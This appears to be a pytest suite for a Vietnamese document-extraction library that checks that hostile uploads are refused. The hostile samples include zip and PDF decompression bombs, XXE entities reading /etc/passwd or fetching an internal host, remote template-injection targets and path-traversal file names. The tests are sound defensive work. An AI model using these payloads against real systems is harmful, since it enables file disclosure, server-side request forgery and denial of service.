"""Files made to harm, and files that went wrong: each gets one clear Vietnamese line."""

from __future__ import annotations

import io
import re
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from thongsuot.textlab.extract import Limits, Refused, Unreadable, clean_name, extract, inspect
from thongsuot.textlab.extract.kinds import LONGEST_NAME, check_size
from thongsuot.textlab.extract.model import MEGABYTE
from thongsuot.textlab.tests.made_files import (
    SENTENCE,
    PdfPage,
    drawn_page,
    packed,
    packed_stream,
    part,
    pdf,
    pdf_of,
    stream,
    with_parts,
    word,
)

DOCX = word(SENTENCE)
PAGE = PdfPage(texts=[(80, 700, 12, SENTENCE)])
PDF = pdf(PAGE)
DOCUMENT = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


def refused(data: bytes, name: str, limits: Limits | None = None) -> Refused:
    """Refused with one line that ends in a mend: something the person can do."""
    with pytest.raises(Refused) as caught:
        inspect(data, name, limits)
    line = str(caught.value)
    assert "\n" not in line
    assert line[0].isupper()
    assert line.endswith(".")
    assert len(line) < 250
    return caught.value


def zip_of(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_a_word_file_with_one_huge_part_is_a_bomb() -> None:
    bomb = with_parts(DOCX, {DOCUMENT: b"<a>" + b" " * (40 * MEGABYTE) + b"</a>"})
    assert len(bomb) < MEGABYTE
    assert refused(bomb, "a.docx").code == "bomb"


def test_thousands_of_small_parts_are_a_bomb() -> None:
    parts = {f"word/media/{n}.xml": b"<a/>" for n in range(6000)}
    assert refused(with_parts(DOCX, parts), "a.docx").code == "bomb"


def test_many_parts_that_swell_together_are_a_bomb() -> None:
    parts = {f"word/media/{n}.bin": bytes(900_000) for n in range(60)}
    assert refused(with_parts(DOCX, parts), "a.docx").code == "bomb"


def test_a_bomb_inside_a_zip_inside_is_never_opened() -> None:
    inner = zip_of(a=bytes(10 * MEGABYTE))
    found = inspect(with_parts(DOCX, {"word/embeddings/a.xlsx": inner}), "a.docx")
    assert found.extension == "docx"


def test_a_part_that_lies_about_its_size_is_broken() -> None:
    bomb = with_parts(DOCX, {"word/big.xml": b"<a>" + b"x" * (20 * MEGABYTE) + b"</a>"})
    at = bomb.rindex(b"word/big.xml") - 46
    assert bomb[at : at + 4] == b"PK\x01\x02"
    lied = bomb[: at + 24] + struct.pack("<I", 100) + bomb[at + 28 :]
    assert refused(lied, "a.docx").code in {"broken", "bomb"}


@pytest.mark.parametrize(
    "xml",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://10.0.0.1/x"> %x;]><a/>',
        b'<!DOCTYPE a [<!ENTITY l "l"><!ENTITY m "&l;&l;&l;"><!ENTITY n "&m;&m;">]><a>&n;</a>',
        b"<!DOCTYPE a><a/>",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16"),
    ],
    ids=["file", "parameter", "laughs", "dtd", "utf-16"],
)
@pytest.mark.parametrize("name", [DOCUMENT, RELS, "customXml/item1.xml", "word/other.dat"])
def test_xml_that_points_outside_is_refused(xml: bytes, name: str) -> None:
    assert refused(with_parts(DOCX, {name: xml}), "a.docx").code == "entities"


def related(kind: str, target: str) -> bytes:
    old = part(DOCX, RELS).decode()
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    new = f'<Relationship Id="rIdX" Type="{space}/{kind}" Target="{target}" TargetMode="External"/>'
    return with_parts(
        DOCX, {RELS: old.replace("</Relationships>", new + "</Relationships>").encode()}
    )


@pytest.mark.parametrize(
    "target",
    [
        "http://10.0.0.1/a.dotm",
        "https://ke-xau.example/a.dotm",
        "\\\\10.0.0.1\\chung\\a.dotm",
        "file://10.0.0.1/chung/a.dotm",
        "file://///10.0.0.1/a.dotm",
        "mhtml:http://10.0.0.1/a!x",
    ],
)
@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_a_template_or_object_fetched_from_outside_is_refused(kind: str, target: str) -> None:
    assert refused(related(kind, target), "a.docx").code == "external"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://chinhphu.vn"),
        ("hyperlink", "mailto:phuong@tphcm.gov.vn"),
        ("attachedTemplate", "file:///C:\\Users\\lan\\Mau\\bao-cao.dotx"),
    ],
)
def test_links_and_a_template_on_the_own_disk_are_everyday(kind: str, target: str) -> None:
    assert inspect(related(kind, target), "a.docx").media_type.endswith("document")


def test_macros_are_refused_wherever_they_hide() -> None:
    types = part(DOCX, TYPES).decode()
    enabled = types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert refused(with_parts(DOCX, {"word/vbaProject.bin": b"x"}), "a.docx").code == "macros"
    assert refused(with_parts(DOCX, {"WORD/VBAPROJECT.BIN": b"x"}), "a.docx").code == "macros"
    assert refused(with_parts(DOCX, {TYPES: enabled.encode()}), "a.docx").code == "macros"
    assert refused(DOCX, "a.docm").code == "macros"


def test_another_office_file_is_no_word_file() -> None:
    book = zip_of(
        **{TYPES: b"<Types>spreadsheetml.sheet.main+xml</Types>", "xl/workbook.xml": b"<a/>"}
    )
    assert refused(book, "a.docx").code == "unknown"
    assert refused(zip_of(a=b"x"), "a.docx").code == "unknown"
    assert refused(zip_of(a=b"x"), "a.zip").code == "unknown"


@pytest.mark.parametrize("part_kept", [0.2, 0.5, 0.9, 0.99])
def test_a_truncated_file_is_broken(part_kept: float) -> None:
    photo = packed(drawn_page(["Một dòng chữ của phường."]))
    for data, name in ((DOCX, "a.docx"), (PDF, "a.pdf"), (photo, "a.png")):
        assert refused(data[: int(len(data) * part_kept)], name).code in {"broken", "empty"}


def test_a_word_file_with_damaged_parts_is_broken() -> None:
    for broken in (b"", b"<w:document", b"\x00" * 50, b"<a></b>"):
        assert refused(with_parts(DOCX, {DOCUMENT: broken}), "a.docx").code == "broken"


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


def test_encrypted_files_say_to_take_the_password_off() -> None:
    locked = OLE + "EncryptedPackage".encode("utf-16-le") + bytes(500)
    found = refused(locked, "a.docx")
    assert found.code == "encrypted"
    assert "Bỏ mật khẩu" in str(found)
    flagged = bytearray(DOCX)
    for at in [m.start() for m in re.finditer(b"PK\x01\x02", DOCX)]:
        flagged[at + 8] |= 1
    assert refused(bytes(flagged), "a.docx").code == "encrypted"


def test_a_pdf_with_a_password_says_to_take_it_off() -> None:
    locks = (
        b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>"
    )
    data = PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt " + locks + b" /ID [<41> <41>]")
    found = refused(data, "a.pdf")
    assert found.code == "encrypted"
    assert "Bỏ mật khẩu" in str(found)


def test_old_formats_say_how_to_convert_them() -> None:
    assert refused(OLE, "a.doc").code == "old_word"
    assert refused(b"{\\rtf1 xin chao}", "a.rtf").code == "rtf"
    assert refused(b"<?xml version='1.0'?><w:wordDocument/>", "a.xml").code == "unknown"


@pytest.mark.parametrize("data", [b"", b"   \n\t", b"\x00" * 100, b"\xef\xbb\xbf"])
def test_an_empty_file_says_so(data: bytes) -> None:
    assert refused(data, "a.txt").code == "empty"


def test_the_name_has_to_agree_with_the_content() -> None:
    photo = packed(drawn_page(["Một dòng."]))
    found = refused(photo, "bao-cao.docx")
    assert found.code == "wrong_extension"
    assert "nội dung là ảnh PNG" in str(found)
    for data, name in ((DOCX, "a.pdf"), (PDF, "a.docx"), (b"Xin chao", "a.pdf"), (PDF, "a.txt")):
        assert refused(data, name).code == "wrong_extension"


def test_programs_and_noise_are_unknown() -> None:
    for data in (b"MZ\x90\x00" + bytes(range(256)) * 20, b"\x7fELF" + bytes(range(32)) * 50):
        assert refused(data, "a.txt").code == "unknown"


def test_two_hundred_megabytes_are_refused_without_being_looked_at() -> None:
    with pytest.raises(Refused, match="200 MB, lớn hơn mức 50 MB"):
        check_size(200 * MEGABYTE, Limits())
    data = bytes(60 * MEGABYTE)
    tracemalloc.start()
    try:
        assert refused(data, "a.docx").code == "too_large"
        assert tracemalloc.get_traced_memory()[1] < MEGABYTE
    finally:
        tracemalloc.stop()


def test_ten_thousand_pages_are_refused_by_their_number() -> None:
    kids = " ".join(f"{n + 3} 0 R" for n in range(10_000))
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"] * 10_000
    data = pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Kids [{kids}] /Count 10000 >>".encode(),
            *pages,
        ]
    )
    found = refused(data, "a.pdf")
    assert found.code == "too_many_pages"
    assert "10000 trang" in str(found)


def test_a_pdf_without_pages_or_with_pages_in_a_ring_is_refused() -> None:
    none = pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    ring = pdf_of(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]
    )
    assert refused(none, "a.pdf").code in {"empty", "broken"}
    assert refused(ring, "a.pdf").code in {"empty", "broken"}


def one_page(content: bytes, more: str = "", *others: bytes) -> bytes:
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            f"/Resources << {more} >> >>".encode(),
            content,
            *others,
        ]
    )


def zeros(size: int) -> bytes:
    """`size` packed zero bytes, made without holding them."""
    engine = zlib.compressobj(9)
    out = [engine.compress(bytes(MEGABYTE)) for _n in range(size // MEGABYTE)]
    return b"".join([*out, engine.flush()])


def test_a_pdf_stream_that_swells_is_a_bomb() -> None:
    data = one_page(stream(zeros(40 * MEGABYTE), "/Filter /FlateDecode"))
    assert len(data) < MEGABYTE
    tracemalloc.start()
    try:
        assert refused(data, "a.pdf", Limits(unpacked_stream=30 * MEGABYTE)).code == "bomb"
        assert refused(data, "a.pdf", Limits(unpacked=30 * MEGABYTE)).code == "bomb"
        assert tracemalloc.get_traced_memory()[1] < 20 * MEGABYTE
    finally:
        tracemalloc.stop()


def test_a_pdf_stream_packed_twice_is_a_bomb() -> None:
    twice = zlib.compress(zeros(40 * MEGABYTE), 9)
    data = one_page(stream(twice, "/Filter [/FlateDecode /FlateDecode]"))
    assert refused(data, "a.pdf", Limits(unpacked_stream=30 * MEGABYTE)).code == "bomb"


def test_a_form_that_draws_itself_ends() -> None:
    form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 5 0 R >> >>"
    data = one_page(stream(b"/I Do"), "/XObject << /I 5 0 R >>", stream(b"/I Do", form))
    inspect(data, "a.pdf")
    with pytest.raises(Unreadable):
        extract(data, "application/pdf")


def test_a_picture_too_large_to_draw_is_refused() -> None:
    picture = stream(
        zlib.compress(b"x"),
        "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB "
        "/BitsPerComponent 8 /Filter /FlateDecode",
    )
    data = one_page(stream(b"595 0 0 842 0 0 cm /I Do"), "/XObject << /I 5 0 R >>", picture)
    found = refused(data, "a.pdf")
    assert found.code == "bomb"
    assert "Quét lại" in str(found)


def test_a_page_as_large_as_a_field_is_drawn_small() -> None:
    data = one_page(packed_stream(b"")).replace(b"595 842", b"14400 14400")
    inspect(data, "a.pdf")
    with pytest.raises(Unreadable):
        extract(data, "application/pdf")


def png_of(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zeros(2 * MEGABYTE)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(9000, 9000), (20_000, 20_000), (100_000, 100_000)])
def test_a_picture_that_would_not_fit_into_memory_is_refused(size: tuple[int, int]) -> None:
    tracemalloc.start()
    try:
        found = refused(png_of(*size), "a.png")
        assert tracemalloc.get_traced_memory()[1] < 20 * MEGABYTE
    finally:
        tracemalloc.stop()
    assert found.code == "bomb"
    assert "Ảnh quá lớn" in str(found)


def test_scripts_and_outside_things_of_a_web_page_are_left_out() -> None:
    page = """<!doctype html><html><head><title>x</title><style>p{}</style></head><body>
    <script>alert('xau')</script><p onclick="xau()">Phường <b>thiếu</b> máy in.</p>
    <iframe src="http://10.0.0.1/">xau</iframe><object data="xau">xau</object>
    <svg><script>xau</script></svg><img src="http://10.0.0.1/xau.png"><!-- xau -->
    <template>xau</template><noscript>xau</noscript></body></html>"""
    found = extract(page.encode(), inspect(page.encode(), "a.html").media_type)
    assert found.text == "Phường thiếu máy in."


def test_a_web_page_nested_without_end_is_read_or_refused_in_time() -> None:
    page = "<html><body>" + "<div>" * 50_000 + "<p>Phường thiếu máy in.</p></body></html>"
    try:
        text = extract(page.encode(), "text/html").text
    except (Refused, Unreadable) as said:
        text = str(said)
    assert "\n" not in text


def test_text_without_end_is_refused() -> None:
    data = ("Phường thiếu máy in. " * 200).encode()
    assert refused(data, "a.txt", Limits(characters=1000)).code == "too_long"
    assert refused(word(data.decode()), "a.docx", Limits(characters=1000)).code == "too_long"


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\lan\\Báo cáo.docx", "Báo cáo.docx"),
        ("báo\u202ecod.exe", "báocod.exe"),
        ("a\x00b\r\n\x1bc.txt", "abc.txt"),
        ("Ba\u0301o ca\u0301o.docx", "Báo cáo.docx"),
        ("...", "van-ban"),
        ("", "van-ban"),
        (".docx", "docx"),
    ],
)
def test_a_file_name_is_only_a_name(name: str, clean: str) -> None:
    assert clean_name(name) == clean


@given(st.text(max_size=400))
def test_any_name_becomes_one_safe_short_line(name: str) -> None:
    found = clean_name(name)
    assert 0 < len(found) <= LONGEST_NAME
    assert not set(found) & set("/\\\n\r\x00\u202e")
    assert clean_name(found) == found


def test_a_long_name_keeps_its_ending() -> None:
    assert clean_name("a" * 5000 + ".docx").endswith("a.docx")


KINDS = st.sampled_from([(DOCX, "a.docx"), (PDF, "a.pdf"), (SENTENCE.encode(), "a.txt")])


@settings(max_examples=40, deadline=None)
@given(KINDS, st.data())
def test_a_flipped_byte_never_crashes(kind: tuple[bytes, str], data: st.DataObject) -> None:
    content, name = kind
    at = data.draw(st.integers(0, len(content) - 1))
    byte = data.draw(st.integers(0, 255))
    harmed = content[:at] + bytes([byte]) + content[at + 1 :]
    try:
        found = extract(harmed, inspect(harmed, name).media_type)
    except (Refused, Unreadable) as said:
        parts = [str(said)]
    else:
        parts = [found.text[block.start : block.end] for block in found.blocks]
    assert all(part and "\n" not in part for part in parts)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=3000), st.sampled_from(["a.txt", "a.docx", "a.pdf", "a.html", "a"]))
def test_any_bytes_get_text_or_one_line(data: bytes, name: str) -> None:
    try:
        text = extract(data, inspect(data, name).media_type).text
    except (Refused, Unreadable) as said:
        text = str(said)
    assert "\x00" not in text
